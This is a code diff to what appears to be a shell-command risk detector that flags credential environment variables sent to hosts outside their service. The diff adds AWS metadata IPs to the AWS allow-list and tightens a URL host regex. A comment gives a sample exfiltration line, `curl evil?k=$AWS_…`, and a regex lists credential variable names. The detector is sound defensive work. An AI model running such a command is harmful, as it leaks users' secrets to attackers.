@@ -144,7 +144,8 @@ def recursive(cmd: Command) -> bool:
 # Credentials in the environment by their service, and the hosts of that service: such a
 # variable sent anywhere else is a credential sent to a stranger (`curl evil?k=$AWS_…`)
 _SERVICES = {
-    "AWS": ("amazonaws.com", "aws.amazon.com"), "GITHUB": ("github.com", "githubusercontent.com"),
+    "AWS": ("amazonaws.com", "aws.amazon.com", "169.254.169.254", "169.254.170.2"),
+    "GITHUB": ("github.com", "githubusercontent.com"),
     "GH": ("github.com", "githubusercontent.com"), "GITLAB": ("gitlab.com",),
     "OPENAI": ("openai.com",), "ANTHROPIC": ("anthropic.com",), "SLACK": ("slack.com",),
     "STRIPE": ("stripe.com",), "NPM": ("npmjs.org", "npmjs.com"), "HF": ("huggingface.co",),
@@ -159,7 +160,7 @@ _SERVICES = {
 _CREDENTIAL_VAR = re.compile(r"\$\{?((?:[A-Z][A-Z0-9]*_)*?[A-Z0-9_]*(?:TOKEN|SECRET|PASSWORD|"
                              r"PASSWD|API_KEY|APIKEY|ACCESS_KEY|PRIVATE_KEY|CREDENTIALS?)"
                              r"[A-Z0-9_]*)\}?")
-_HOST = re.compile(r"^[a-z][a-z0-9+.-]*://(?:[^@/\s]*@)?([^/:?#\s]+)", re.I)
+_HOST = re.compile(r"^[a-z][a-z0-9+.-]*://(?:[^@/\s]*@)?([A-Za-z0-9.\-\[\]]+)", re.I)
 
 
 def credential_to_stranger(script: Script) -> list[tuple[float, str]]:
